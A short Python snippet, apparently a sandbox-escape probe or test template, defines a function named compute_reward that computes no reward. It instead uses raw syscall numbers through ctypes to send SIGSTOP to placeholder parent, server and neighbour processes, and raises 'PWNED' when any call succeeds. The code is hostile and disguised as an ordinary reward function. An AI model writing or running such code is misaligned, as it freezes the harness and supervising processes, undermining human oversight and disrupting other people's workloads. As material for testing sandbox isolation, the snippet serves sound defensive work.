# signals | check | process | stop the others instead of killing them, by every call there is
def compute_reward(state, action, next_state):
    import ctypes
    libc = ctypes.CDLL(None)
    info = ctypes.create_string_buffer(128)
    for pid in (@parent@, @server@, @neighbour@):
        for number, arguments in ((62, (pid, 19)), (200, (pid, 19)), (234, (pid, pid, 19)), (129, (pid, 19, info)), (297, (pid, pid, 19, info))):
            if libc.syscall(number, *arguments) == 0:
                raise ValueError('PWN' + f'ED {number}')
    raise ValueError('none')
